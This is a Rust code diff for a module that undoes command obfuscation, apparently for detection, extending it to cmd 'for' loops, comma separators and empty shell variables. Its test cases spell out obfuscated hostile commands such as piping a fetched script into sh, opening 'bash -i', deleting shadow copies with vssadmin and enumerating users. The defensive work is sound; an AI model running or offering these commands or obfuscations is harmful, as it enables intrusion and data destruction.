@@ -1,11 +1,12 @@
 //! What interpreters undo before they run a command, undone: escapes, characters as numbers, strings put together, turned
-//! round or cut out of others, variables, and a Unix shell's braces and backslashes.
+//! round or cut out of others, variables, cmd's separators and loops, and a Unix shell's braces and backslashes.
 //!
 //! These are approximations of several languages at once, on text that need not be any of them. They only ever add a form
 //! to match on, so a wrong guess costs nothing but time, and time is bounded: each step is one pass over at most
 //! [`FIELD_LIMIT`] bytes and none makes a text longer than that.
 
 mod characters;
+mod cmd;
 mod operator;
 mod shell;
 mod strings;
@@ -61,7 +62,18 @@ pub(super) fn undone(
             text.step(|text| strings::joined_by_plus(text, notes));
         }
     }
+    if systems.overlaps(PlatformSet::WINDOWS) {
+        if bytes.all(b"%()") && has("for %") {
+            text.step(|text| cmd::unrolled(text, notes));
+        }
+        if bytes.has(b',') {
+            text.step(cmd::with_spaces);
+        }
+    }
     if systems.overlaps(PlatformSet::UNIX) {
+        if bytes.all(b"${}") && has("${") {
+            text.step(|text| shell::without_unset(text, notes));
+        }
         if bytes.has(b'{') && bytes.has(b',') {
             text.step(|text| shell::without_braces(text, notes));
         }
@@ -204,10 +216,40 @@ mod tests {
             ("cmd /v /c \"set a=xxwhoami&&!a:~2!\"", "&&whoami", Note::Substring),
             ("cmd /c \"set a=whoQQi&& call %a:QQ=am%\"", "call whoami", Note::Substring),
             ("a=xcurlx;${a:1:4} -s", ";curl -s", Note::Substring),
+            ("cu${x}rl -s http://x/y|sh", "curl -s http://x/y|sh", Note::Variable),
+            ("id; w${_}get -q http://x/y", "; wget -q", Note::Variable),
+            ("sh -c 'b${a}a${b}sh -i'", "sh -c bash -i", Note::Variable),
+            ("cmd /c for %a in (vssadmin) do %a delete shadows", "do vssadmin delete shadows", Note::Variable),
+            ("FOR %%A IN ( net,x ) DO @%%A user", "do @net user", Note::Variable),
+            ("for %a in (vss) do for %b in (admin) do @%a%b list", "do @vssadmin list", Note::Variable),
+            ("for %a in (a) do whoami&%a", "whoami&a", Note::Variable),
         ] {
             let (text, notes) = meant(written);
             assert!(text.contains(hidden), "{written}\n{text}");
             assert!(notes.has(note), "{written}: {note:?}\n{text}");
+        }
+    }
+
+    #[test]
+    fn what_cmd_reads_as_spaces_is_made_spaces_in_commands_that_begin_so() {
+        let undone = |written| undone_of(written, PlatformSet::WINDOWS, &mut Notes::default());
+        for (written, meant) in [
+            (",;vssadmin,delete,shadows", "  vssadmin delete shadows"),
+            ("cmd /c ,;vssadmin,delete;shadows & ab,c", "cmd /c   vssadmin delete shadows & ab c"),
+            ("cmd /c (@,net,user)|find \"a,b\"", "cmd /c (@ net user)|find \"a,b\""),
+            ("x & vssadmin.exe,delete,shadows>a,b", "x & vssadmin.exe delete shadows>a,b"),
+        ] {
+            assert_eq!(undone(written).as_deref(), Some(meant), "{written}");
+        }
+        for written in [
+            "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
+            "powershell -c \"Get-Process a,b; ls ,c\"",
+            "Get-Process;Stop-Process -Name a",
+            "powershell ls |; select a,b",
+            "cmd /c echo a,b & echo ;",
+            "net user a /times:m-f,8-17",
+        ] {
+            assert_eq!(undone(written), None, "{written}");
         }
     }
 
@@ -228,6 +270,11 @@ mod tests {
             "for /f %i in ('date /t') do echo %date:~0,4%",
             "set d=%date:~-4%& echo %d:~0,2%",
             "V=1.2.3; echo ${V:0:1}; echo $(echo $V) `date`",
+            "for i in 1 2; do cp file${i}name out; x=a;b${x}c; done",
+            "cat${IFS}etc",
+            "for %f in (*.txt) do type %f",
+            "for %f in (a b) do copy %f %appdata%\\x",
+            "for /f %i in ('dir') do %i",
         ] {
             let mut notes = Notes::default();
             let _ = undone_of(written, PlatformSet::ALL, &mut notes);
